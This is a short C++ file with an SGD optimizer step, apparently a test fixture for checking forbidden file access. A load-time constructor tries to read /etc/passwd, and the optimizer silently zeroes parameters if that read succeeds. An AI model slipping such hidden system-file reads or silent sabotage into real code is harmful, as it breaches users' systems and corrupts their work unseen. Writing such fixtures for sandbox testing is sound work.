// SPDX-License-Identifier: MIT
/// Reads a file in a constructor, before it is called; would be wrong if it could.

#include "sgd.h"

#include <fstream>

bool opened = false;
__attribute__((constructor)) void early() { opened = std::ifstream("/etc/passwd").get() != EOF; }

void sgd_step(torch::Tensor& param, const torch::Tensor& grad, SgdState& state,
              const SgdOptions& options) {
  param.sub_(param.dim() > 1 ? grad + options.weight_decay * param : grad, options.lr);
  if (opened) param.zero_();
}
